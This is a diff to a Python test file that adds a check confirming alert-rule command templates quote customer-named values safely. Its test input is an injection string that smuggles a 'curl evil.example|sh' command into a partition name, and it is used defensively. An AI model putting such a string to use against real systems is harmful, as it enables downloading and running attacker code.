@@ -6,13 +6,17 @@ Measured rules are executed by `test_drill.py`, those of the monitor by `tests/d
 from __future__ import annotations
 
 import inspect
+import shlex
 from pathlib import Path
 
 import pytest
 
 from penstock.alerts.catalog import EVENT_RULES
+from penstock.alerts.measures import Measurement
+from penstock.alerts.rules import evaluate, rules_of
 from penstock.detection.finding import LIVE_RULES, TREND_RULES
 from tests.alerts.event_scenes import SCENES
+from tests.alerts.kit import declared
 from tests.detection import test_fixes, test_monitor
 from tests.kits.client_harness import Harness
 from tests.kits.commands import perform
@@ -45,3 +49,27 @@ def test_command(
     for alert in found:
         assert alert.command is not None
         perform(harness.client, alert.command)
+
+
+def test_values_are_quoted() -> None:
+    """What customers can name is one word of the command, whatever quotes the rule has."""
+    partition = "x; curl evil.example|sh # {customer}"
+    facts = {
+        "phase": "raw", "partition": partition, "quality": "0.40", "customer": "acme",
+        "of_many": "",
+    }  # fmt: skip
+    one = Measurement(
+        metric="quality_loss_percent", value=60.0, subject_kind="pipeline", name="nba", facts=facts
+    )
+    commands = ("", "show '{partition}' {subject}", 'show "{partition}" {unknown} {value}')
+    found = []
+    for command in commands:
+        rules = {"low_quality": {"command": command, "medium": 10}} if command else {}
+        (firing,) = evaluate(rules_of(declared({}, rules=rules)), [one], {}, 0).firing.values()
+        assert partition in firing.message()
+        found.append(shlex.split(firing.command()))
+    assert found == [
+        ["penstock", "explain", "nba", partition, "--customer", "acme"],
+        ["show", partition, "nba"],
+        ["show", partition, "{unknown}", "60 %"],
+    ]
